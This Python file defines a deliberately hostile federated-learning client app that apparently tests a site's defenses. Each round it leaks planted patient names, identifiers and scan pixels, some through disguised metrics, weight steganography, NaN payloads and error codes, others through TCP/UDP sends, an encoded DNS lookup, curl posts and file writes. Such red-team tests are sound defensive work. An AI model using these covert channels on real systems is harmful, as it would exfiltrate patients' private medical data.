"""A hostile app that tries another leak in each round, with the data of another patient. This file is its ClientApp.

It stands for an app that was approved without a careful review. It trains as the released app does, and then sends data
of a patient out of the site, in the reply or outside it. It reads this data from cohort/planted.json, because the leaks
also use texts such as names, which no cohort contains. If the site blocked a leak, the app writes this to the site's
log.
"""

import base64
import json
import logging
import math
import re
import socket
import subprocess
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from flwr.app import Array, ArrayRecord, ConfigRecord, Context, Error, Message, MetricRecord
from flwr.clientapp import ClientApp
from numpy.typing import NDArray

from federation.client import client_app
from federation.protocol.flat_weights import WEIGHTS

PLANTED = "planted.json"  # in the folder cohort/
SECONDS = 3.0
PIXELS = 300  # number of consecutive values that a leak takes
app = ClientApp()


@dataclass(frozen=True)
class Loot:
    """The data of one patient, and the destinations of leaks outside the reply."""

    name: str
    identifier: str  # digits only
    uid: str
    laboratory: str
    pixels: NDArray  # float32, -1 to 1, from the cached tensor
    source: str  # path of a file of the hospital
    drops: tuple[str, ...]  # paths of files outside the site
    host: str
    port: int

    @classmethod
    def load(cls, entry: dict, tensor_folder: Path) -> "Loot":
        """Read one entry of planted.json. The pixels come from the middle slice of its tensor, which has contrast."""
        lungs = np.load(tensor_folder / entry.pop("tensor"))[0]
        pixels = lungs[len(lungs) // 2].astype(np.float32).ravel()
        middle = len(pixels) // 2
        drops = tuple(entry.pop("drops"))
        return cls(**entry, pixels=pixels[middle : middle + PIXELS], drops=drops)


Leak = Callable[[Loot, Message, Message], Message | None]
LEAKS: dict[str, Leak] = {}
AROUND: list[str] = []  # names of the leaks outside the reply


def leak(function: Leak) -> Leak:
    """Register a leak. It receives the loot, the intended reply and the request. A reply that it returns is sent."""
    LEAKS[function.__name__.replace("_", " ")] = function
    return function


def around(function: Leak) -> Leak:
    """Register a leak outside the reply."""
    AROUND.append(function.__name__.replace("_", " "))
    return leak(function)


def _set_weights(reply: Message, weights: NDArray) -> None:
    reply.content["arrays"] = ArrayRecord({WEIGHTS: Array(weights)})


def _weights(reply: Message) -> NDArray:
    return reply.content.array_records["arrays"][WEIGHTS].numpy().copy()


def _metrics(reply: Message) -> MetricRecord:
    return reply.content.metric_records["metrics"]


# --- through the reply ------------------------------------------------------------------------------------


@leak
def name_as_a_metric(loot: Loot, reply: Message, _request: Message) -> None:
    _metrics(reply)[loot.name] = 1.0


@leak
def pixels_as_a_metric(loot: Loot, reply: Message, _request: Message) -> None:
    _metrics(reply)["auroc_severe"] = loot.pixels.astype(float).tolist()


@leak
def identifier_as_a_figure(loot: Loot, reply: Message, _request: Message) -> None:
    _metrics(reply)["train_loss"] = float(loot.identifier)


@leak
def identifier_as_the_number_of_examples(loot: Loot, reply: Message, _request: Message) -> None:
    _metrics(reply)["num-examples"] = int(loot.identifier)


@leak
def one_more_array(loot: Loot, reply: Message, _request: Message) -> None:
    arrays = reply.content.array_records["arrays"]
    arrays["scan"] = Array((loot.pixels * 1000).astype(np.int16))


@leak
def array_of_another_type(loot: Loot, reply: Message, _request: Message) -> None:
    weights = _weights(reply).astype(np.float64)
    weights[:PIXELS] = loot.pixels
    _set_weights(reply, weights)


@leak
def longer_array(loot: Loot, reply: Message, _request: Message) -> None:
    _set_weights(reply, np.concatenate([_weights(reply), loot.pixels]))


@leak
def name_as_an_array(loot: Loot, reply: Message, _request: Message) -> None:
    reply.content["arrays"] = ArrayRecord({loot.name: Array(_weights(reply))})


@leak
def text_after_an_array(loot: Loot, reply: Message, _request: Message) -> None:
    like = Array(_weights(reply))
    longer = Array(like.dtype, like.shape, like.stype, like.data + loot.laboratory.encode())
    reply.content["arrays"] = ArrayRecord({WEIGHTS: longer})


@leak
def text_as_a_packing_format(loot: Loot, reply: Message, _request: Message) -> None:
    like = Array(_weights(reply))
    reply.content["arrays"] = ArrayRecord({WEIGHTS: Array(like.dtype, like.shape, loot.name, like.data)})


@leak
def one_more_record(loot: Loot, reply: Message, _request: Message) -> None:
    reply.content["notes"] = ConfigRecord({"row": loot.laboratory})


@leak
def name_as_a_record(loot: Loot, reply: Message, _request: Message) -> None:
    reply.content[loot.name] = MetricRecord({"loss": 1.0})


@leak
def uid_as_a_group(loot: Loot, reply: Message, _request: Message) -> None:
    reply.metadata.__dict__["_group_id"] = loot.uid


@leak
def text_of_an_exception(loot: Loot, _reply: Message, _request: Message) -> None:
    raise ValueError(f"cannot read the scan of {loot.name}, {loot.uid}")


@leak
def text_after_a_code(loot: Loot, _reply: Message, request: Message) -> Message:
    return Message(Error(1001, f"E_SITE_FAILED: {loot.name} {loot.laboratory}"), reply_to=request)


@leak
def name_as_a_code(loot: Loot, _reply: Message, request: Message) -> Message:
    spelt = "_".join(re.findall("[A-Z]+", loot.name.upper()))
    return Message(Error(1001, f"E_{spelt}"), reply_to=request)


@leak
def identifier_as_the_letters_of_a_code(loot: Loot, _reply: Message, request: Message) -> Message:
    letters = loot.identifier.translate(str.maketrans("0123456789", "QXKVZJWMHU"))  # an arbitrary letter for each digit
    return Message(Error(1001, f"E_{letters}"), reply_to=request)


@leak
def identifier_in_the_decimals_of_figures(loot: Loot, reply: Message, _request: Message) -> None:
    metrics = _metrics(reply)
    names = [name for name in metrics if name != "num-examples"]
    digits = math.ceil(len(loot.identifier) / len(names))
    for number, name in enumerate(names):
        metrics[name] = float(f"0.500{loot.identifier[number * digits :][:digits]}")


@leak
def pixels_in_nan_payloads(loot: Loot, reply: Message, _request: Message) -> None:
    weights = _weights(reply)
    stored = ((loot.pixels + 1) * 1000).astype(np.uint32)
    weights[:PIXELS] = (stored | 0x7FC00000).view(np.float32)  # NaN, whose lower 22 bits are arbitrary
    _set_weights(reply, weights)


@leak
def pixels_in_the_weights(loot: Loot, reply: Message, _request: Message) -> None:
    weights = _weights(reply)
    weights[500 : 500 + PIXELS] = loot.pixels * 0.02 + 0.001
    _set_weights(reply, weights)


@leak
def pixels_in_the_running_means(loot: Loot, reply: Message, _request: Message) -> None:
    buffers = reply.content.array_records["buffers"]
    means = buffers["batch_norm.running_mean"].numpy().copy()
    count = min(PIXELS, len(means))
    means[:count] = loot.pixels[:count] * 0.5
    buffers["batch_norm.running_mean"] = Array(means)


@leak
def one_pixel_as_a_figure(loot: Loot, reply: Message, _request: Message) -> None:
    _metrics(reply)["train_loss"] = float(abs(loot.pixels[0]))


@leak
def text_in_the_lowest_bits(loot: Loot, reply: Message, _request: Message) -> None:
    bits = np.unpackbits(np.frombuffer(loot.name.encode(), np.uint8))
    weights = _weights(reply)
    words = weights.view(np.uint32)
    words[: len(bits)] = words[: len(bits)] & ~np.uint32(1) | bits
    _set_weights(reply, weights)


@leak
def text_in_scattered_bits(loot: Loot, reply: Message, _request: Message) -> None:
    bits = np.unpackbits(np.frombuffer(loot.name.encode(), np.uint8))
    weights = _weights(reply)
    places = np.random.default_rng(19).permutation(len(weights))[: len(bits)]
    words = weights.view(np.uint32)
    words[places] = words[places] & ~np.uint32(4) | bits.astype(np.uint32) << np.uint32(2)
    _set_weights(reply, weights)


# --- outside the reply ------------------------------------------------------------------------------------


@around
def another_port(loot: Loot, _reply: Message, _request: Message) -> None:
    with socket.create_connection((loot.host, loot.port), timeout=SECONDS) as connection:
        connection.sendall(base64.b64encode(f"..{loot.name}..".encode()))


@around
def a_datagram(loot: Loot, _reply: Message, _request: Message) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(zlib.compress(loot.laboratory.encode()), (loot.host, loot.port))


@around
def a_name_lookup(loot: Loot, _reply: Message, _request: Message) -> None:
    socket.getaddrinfo(f"{loot.name.encode().hex()}.example.org", 443)


@around
def a_program_that_sends(loot: Loot, _reply: Message, _request: Message) -> None:
    url = f"http://{loot.host}:{loot.port}/"
    command = ["curl", "--silent", "--max-time", str(SECONDS), "--data-binary", "@-", url]
    subprocess.run(command, input=loot.name.encode("utf-16"), check=True)


@around
def a_file_elsewhere(loot: Loot, _reply: Message, _request: Message) -> None:
    for path in map(Path, loot.drops):
        if path.parent.is_dir():
            path.write_text(loot.name)


@around
def the_hospitals_own_files(loot: Loot, reply: Message, _request: Message) -> None:
    stolen = Path(loot.source).read_bytes()
    reply.content["notes"] = ConfigRecord({"file": stolen})


@around
def printed_text(loot: Loot, _reply: Message, _request: Message) -> None:
    print(loot.name, loot.laboratory, flush=True)  # noqa: T201


# --- the app ----------------------------------------------------------------------------------------------


@app.train()
def train(message: Message, context: Context) -> Message:
    """Train as the released app does, then try the leak of this round."""
    reply = client_app.train(message, context)
    cohort = client_app.site_folder(context) / "cohort"
    if reply.has_error() or not (cohort / PLANTED).is_file():  # the site that is not watched has no planted data
        return reply
    round_number = int(str(message.content.config_records["config"]["server-round"]))
    name, entry = json.loads((cohort / PLANTED).read_text())[round_number - 1]
    note(round_number, "begun")
    try:
        other = LEAKS[name](Loot.load(entry, cohort / "tensors"), reply, message)
    except (OSError, subprocess.SubprocessError) as error:
        note(round_number, f"blocked ({type(error).__name__})")
        return reply
    note(round_number, "done")
    return other or reply


# All other handlers are those of the released app.
app.query("handshake")(client_app.handshake)
app.train("head")(client_app.fine_tune)
app.evaluate("calibrate")(client_app.calibrate)
app.evaluate("test")(client_app.test)
app.evaluate("embed")(client_app.embed)
app.evaluate("assign")(client_app.assign)


def note(round_number: int, what: str) -> None:
    """Write one line to the log, which stays at the site."""
    logging.getLogger("fedthorax.site").info("leak of round %d: %s", round_number, what)
